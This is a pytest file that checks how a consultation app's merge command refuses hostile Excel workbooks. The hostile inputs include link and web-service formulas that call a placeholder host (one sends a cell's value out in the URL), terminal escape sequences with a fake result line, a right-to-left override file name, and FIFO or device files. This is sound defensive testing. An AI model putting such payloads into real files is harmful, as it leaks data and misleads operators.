"""Issue 16, the attacks that went past the corpus test: what a whole merge run does with them
(the command line's exit code and JSON, the files after the hostile one, the central data),
and the terminal kept safe from what a file or a device calls itself.

Each hostile file is refused with one line naming file, sheet, row and column; the run goes
on with the next file; the exit code is 1; the central data is unchanged.
"""

from __future__ import annotations

import faulthandler
import json
import os
import re
import shutil
import subprocess
import sys
from contextlib import contextmanager
from pathlib import Path

import openpyxl
import pytest

from consultation_app import paths
from consultation_app.cli.main import EXIT_FAILED, EXIT_OK, main
from consultation_app.domain.records import CONSULTATION, FEEDBACK, NOTE
from consultation_app.exchange.export import export_package
from consultation_app.exchange.merge import MERGED, REJECTED, merge_paths
from consultation_app.exchange.template import write_template
from consultation_app.paths import DATABASE_NAME
from consultation_app.storage import catalog_store
from tests.bad_workbooks import locate, parts_of, set_cell, sheet_part, write_parts
from tests.conftest import dump, edit_copy, query

CATALOG = "khm-upr3-ohchr-2019"
ESCAPES = "\x1b[2J\x1b[H"  # clear the screen, cursor home
FAKE_LINE = "merged          fake.xlsx: 999 new, 0 updated"


@contextmanager
def watchdog(seconds: int):
    """A hang ends the test run with a traceback instead of freezing it."""
    faulthandler.dump_traceback_later(seconds, exit=True)
    try:
        yield
    finally:
        faulthandler.cancel_dump_traceback_later()


def laptop_export(open_ws, tmp_path, name: str, device_name: str = "Takeo laptop", officer: str = "",
                  comment: str = "comment") -> Path:
    ws = open_ws(name, device_name)
    if officer:
        from consultation_app.storage import settings_store

        settings_store.put(ws.db, settings_store.OFFICER_NAME, officer)
    c = ws.records.create(CONSULTATION, {"title": f"{name} consultation", "catalog_id": CATALOG,
                                         "stakeholder_group": "civil_society", "province": "takeo"})
    for n in (1, 2):
        ws.records.create(FEEDBACK, {"consultation_uuid": c["uuid"], "catalog_id": CATALOG,
                                     "recommendation_code": f"KH3-{n:02d}", "priority": "high",
                                     "comment": f"{comment} {n}"})
    ws.records.create(NOTE, {"consultation_uuid": c["uuid"], "title": "Land", "text": "Land titles"})
    return export_package(ws.database_path, tmp_path / f"{name}.xlsx", ws.reference).path


def run_merge(capsys, data_dir, *args):
    code = main(["--data-dir", str(data_dir), "merge", *map(str, args), "--json"])
    out, err = capsys.readouterr()
    return code, json.loads(out) if out.strip() else None, err


def run_process(data_dir, *args):
    env = dict(os.environ)
    env[paths.DATA_DIR_ENV] = str(data_dir)
    env["QT_QPA_PLATFORM"] = "offscreen"
    return subprocess.run([sys.executable, "-m", "consultation_app", *args], env=env, capture_output=True,
                          timeout=120)


# -- 4. hostile workbooks in a merge run -------------------------------------------------------------

@pytest.mark.parametrize("sheet, key", [("feedback", "attribution"), ("consultations", "status")])
def test_a_blank_required_enum_is_refused_and_the_run_goes_on(capsys, data_dir, open_ws, tmp_path, sheet, key):
    """Before: with --accept-modified, "internal error: IntegrityError: NOT NULL constraint
    failed", exit 3, no JSON, later files not merged."""
    good = laptop_export(open_ws, tmp_path, "laptop-a")
    later = laptop_export(open_ws, tmp_path, "laptop-b")
    blank = edit_copy(good, tmp_path / f"a-blank-{key}.xlsx", set_cell(sheet, key, None, 0))
    row, letter, _ = locate(good, sheet, key, 0)
    assert main(["--data-dir", str(data_dir), "summary"]) == EXIT_OK
    capsys.readouterr()
    central = data_dir / DATABASE_NAME
    before = dump(central)

    code, result, err = run_merge(capsys, data_dir, blank, later, "--accept-modified")
    assert err == "" and code == EXIT_FAILED and result is not None
    first, second = result["files"]
    assert first["status"] == REJECTED
    assert first["message"].startswith(f"a-blank-{key}.xlsx, sheet '{sheet}', row {row}, column {letter} ({key}): "
                                       f"is empty"), first["message"]
    assert second["status"] == MERGED and second["counts"]["new"] == 4
    after = dump(central)
    assert query(central, "SELECT count(*) FROM consultations WHERE title = 'laptop-a consultation'") == [(0,)]
    assert after["feedback"] != before["feedback"]  # laptop-b's, only


def test_a_fifo_and_a_device_are_refused_unread_and_the_run_goes_on(data_dir, open_ws, tmp_path):
    """Before: a FIFO hung the merge for ever; /dev/zero ended in MemoryError."""
    good = laptop_export(open_ws, tmp_path, "laptop-a")
    fifo = tmp_path / "inbox-pipe.xlsx"
    os.mkfifo(fifo)
    link = tmp_path / "zeros.xlsx"
    link.symlink_to("/dev/zero")
    central = open_ws("central")
    with watchdog(60):
        results = merge_paths(central.database_path, [fifo, Path("/dev/zero"), link, good], central.reference)
    assert [r.status for r in results] == [REJECTED, REJECTED, REJECTED, MERGED]
    for result, name in zip(results, ["inbox-pipe.xlsx", "zero", "zeros.xlsx"]):
        assert name in result.message and "not a regular file" in result.message, result.message


def test_a_file_name_that_is_not_utf8_neither_stops_the_run_nor_breaks_the_output(data_dir, open_ws, tmp_path):
    """Before: "internal error: UnicodeEncodeError" before any file merged."""
    good = laptop_export(open_ws, tmp_path, "laptop-a")
    other = laptop_export(open_ws, tmp_path, "laptop-b")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    shutil.copyfile(good, os.path.join(os.fsencode(inbox), b"caf\xe9-\xff.xlsx"))
    shutil.copyfile(other, inbox / "zz-other.xlsx")
    done = run_process(data_dir, "merge", str(inbox))
    out, err = done.stdout.decode("utf-8"), done.stderr.decode("utf-8")
    assert done.returncode == EXIT_OK, (out, err)
    assert err == ""
    assert "caf\\xe9-\\xff.xlsx" in out and "zz-other.xlsx" in out
    assert out.count("merged ") == 2
    central = data_dir / DATABASE_NAME
    assert query(central, "SELECT count(*) FROM consultations") == [(2,)]
    assert "caf\\xe9-\\xff.xlsx" in query(central, "SELECT group_concat(file_name) FROM merged_exports")[0][0]

    done = run_process(data_dir, "merge", str(inbox), "--json")
    assert done.returncode == EXIT_OK and done.stderr == b""
    files = json.loads(done.stdout.decode("utf-8"))["files"]
    assert [entry["status"] for entry in files] == ["already_merged", "already_merged"]


def test_control_characters_arriving_through_a_merge_are_cleaned_as_entry_does(data_dir, open_ws, tmp_path):
    """Before: `_x0001_` and `_x001B_` (Excel's escapes for control characters) were stored verbatim."""
    good = laptop_export(open_ws, tmp_path, "laptop-a")
    parts = parts_of(good)
    member = sheet_part(parts, "feedback")
    parts[member], count = re.subn(rb"<t>comment 1</t>", b"<t>before_x001B_[2J_x0001_after\r\nline</t>",
                                   parts[member])
    assert count == 1
    edited = tmp_path / "controls.xlsx"
    write_parts(edited, parts)
    central = open_ws("central")
    [result] = merge_paths(central.database_path, [edited], central.reference, accept_modified=True)
    assert result.status == MERGED, result.message
    comments = [c for (c,) in query(central.database_path, "SELECT comment FROM feedback ORDER BY comment")]
    assert comments == ["before[2Jafter\nline", "comment 2"]


def test_a_live_formula_in_a_filled_template_names_its_cell(data_dir, workspace, tmp_path):
    """Before: "sheet 'feedback' holds formula cells", or no refusal at all, naming no cell."""
    blank = tmp_path / "blank.xlsx"
    write_template(blank, workspace.reference, catalog_store.list_recommendations(workspace.db))
    book = openpyxl.load_workbook(blank)
    ws = book["feedback"]
    keys = {cell.value: cell.column for cell in ws[2] if cell.value}
    ws.cell(5, keys["comment"]).value = '=HYPERLINK("http://example.org/?"&A5,"click")'
    filled = tmp_path / "filled.xlsx"
    book.save(filled)
    book.close()
    letter = openpyxl.utils.get_column_letter(keys["comment"])
    before = dump(workspace.database_path)
    [result] = merge_paths(workspace.database_path, [filled], workspace.reference)
    assert result.status == REJECTED
    assert result.message.startswith(f"filled.xlsx, sheet 'feedback', row 5, column {letter} (comment): "
                                     f"a formula"), result.message
    assert dump(workspace.database_path) == before


def test_a_live_formula_in_a_templates_details_sheet_names_its_cell(data_dir, workspace, tmp_path):
    """The details sheet holds the consultation itself: a formula there is refused like one in
    the feedback sheet. Before, it was read as its cached value (none: an empty title) and the
    rest of the filling merged."""
    blank = tmp_path / "blank.xlsx"
    write_template(blank, workspace.reference, catalog_store.list_recommendations(workspace.db))
    book = openpyxl.load_workbook(blank)
    ws = book["details"]
    keys = {cell.value: cell.column for cell in ws[2] if cell.value}
    ws.cell(3, keys["title"]).value = '=WEBSERVICE("http://example.org/")'
    filled = tmp_path / "filled.xlsx"
    book.save(filled)
    book.close()
    letter = openpyxl.utils.get_column_letter(keys["title"])
    [result] = merge_paths(workspace.database_path, [filled], workspace.reference)
    assert result.status == REJECTED
    assert result.message.startswith(f"filled.xlsx, sheet 'details', row 3, column {letter} (title): a formula "
                                     f"('=WEBSERVICE"), result.message


def test_a_long_hostile_value_in_a_template_is_quoted_as_a_short_excerpt(data_dir, workspace, tmp_path):
    blank = tmp_path / "blank.xlsx"
    write_template(blank, workspace.reference, catalog_store.list_recommendations(workspace.db))
    book = openpyxl.load_workbook(blank)
    ws = book["feedback"]
    keys = {cell.value: cell.column for cell in ws[2] if cell.value}
    ws.cell(5, keys["priority"]).value = "urgent" + "!" * 30_000
    filled = tmp_path / "filled.xlsx"
    book.save(filled)
    book.close()
    [result] = merge_paths(workspace.database_path, [filled], workspace.reference)
    assert result.status == REJECTED
    letter = openpyxl.utils.get_column_letter(keys["priority"])
    assert result.message.startswith(f"filled.xlsx, sheet 'feedback', row 5, column {letter} (priority): 'urgent!!!")
    assert "(30,006 characters)" in result.message and len(result.message) < 300, result.message


# -- 7. what the terminal shows is text ---------------------------------------------------------------

def test_escape_sequences_in_device_names_and_file_names_are_shown_escaped(data_dir, open_ws, tmp_path):
    """Before: a device called ESC[2J... cleared the terminal and printed a fake result line."""
    export = laptop_export(open_ws, tmp_path, "laptop-a", device_name=ESCAPES + FAKE_LINE)
    named = tmp_path / f"report{ESCAPES}\u202efdp.xlsx"
    shutil.copyfile(export, named)
    missing_first = laptop_export(open_ws, tmp_path, "laptop-a-second", device_name=ESCAPES + FAKE_LINE)
    done = run_process(data_dir, "merge", str(named))
    out = done.stdout.decode("utf-8")
    assert done.returncode == EXIT_OK, (out, done.stderr)
    assert "\x1b" not in out and "\u202e" not in out
    assert "report\\x1b[2J\\x1b[H\\u202efdp.xlsx" in out
    assert len(out.splitlines()) == 1 or all(not line.startswith("merged          fake")
                                             for line in out.splitlines())
    del missing_first

    done = run_process(data_dir, "summary")
    assert done.returncode == EXIT_OK and b"\x1b" not in done.stdout

    # JSON stays exact JSON: the value comes back as it is.
    done = run_process(data_dir, "merge", str(named), "--json")
    files = json.loads(done.stdout.decode("utf-8"))["files"]
    assert files[0]["path"] == str(named) and files[0]["status"] == "already_merged"


def test_a_device_name_in_a_warning_cannot_fake_a_result_line(capsys, data_dir, open_ws, tmp_path):
    ws = open_ws("laptop-a", "Kep\n" + FAKE_LINE + ESCAPES)
    c = ws.records.create(CONSULTATION, {"title": "Kep", "catalog_id": CATALOG})
    export_package(ws.database_path, tmp_path / "first.xlsx", ws.reference)
    ws.records.update(CONSULTATION, c["uuid"], {"title": "Kep again"})
    export_package(ws.database_path, tmp_path / "second.xlsx", ws.reference)
    ws.records.update(CONSULTATION, c["uuid"], {"title": "Kep a third time"})
    third = export_package(ws.database_path, tmp_path / "third.xlsx", ws.reference).path
    code = main(["--data-dir", str(data_dir), "merge", str(third)])
    out, err = capsys.readouterr()
    assert code == EXIT_OK, err
    assert "not received yet" in out  # the warning that names the device
    assert "\x1b" not in out and not any(line.startswith("merged          fake") for line in out.splitlines())


def test_a_file_the_database_refuses_half_way_is_rejected_alone(open_ws, tmp_path, monkeypatch):
    """Content no check foresees that a constraint refuses (here made to fail after its first
    rows went in): that file is rejected with nothing of it kept, the files before and after it
    are merged, and the run ends normally."""
    import sqlite3

    from consultation_app.storage import merge_store

    files = [laptop_export(open_ws, tmp_path, name) for name in ("laptop-a", "laptop-b", "laptop-c")]
    failing = open_ws("laptop-b").device_id
    real_insert = merge_store.insert_absent

    def insert_then_fail(db, kind, rows, local_seq):
        outcome = real_insert(db, kind, rows, local_seq)
        if kind is FEEDBACK and failing in rows.column("device_id"):
            raise sqlite3.IntegrityError("CHECK constraint failed: made to fail")
        return outcome

    monkeypatch.setattr(merge_store, "insert_absent", insert_then_fail)
    central = open_ws("central")
    results = merge_paths(central.database_path, files, central.reference)
    assert [r.status for r in results] == [MERGED, REJECTED, MERGED]
    assert results[1].message == ("laptop-b.xlsx: cannot be stored (CHECK constraint failed: made to fail); "
                                  "nothing of it was merged")
    titles = [t for (t,) in query(central.database_path, "SELECT title FROM consultations ORDER BY title")]
    assert titles == ["laptop-a consultation", "laptop-c consultation"]
    assert query(central.database_path, "SELECT count(*) FROM feedback WHERE device_id = ?", [failing]) == [(0,)]
    assert query(central.database_path, "SELECT status FROM merge_log ORDER BY id") == [
        ("merged",), ("rejected",), ("merged",)]
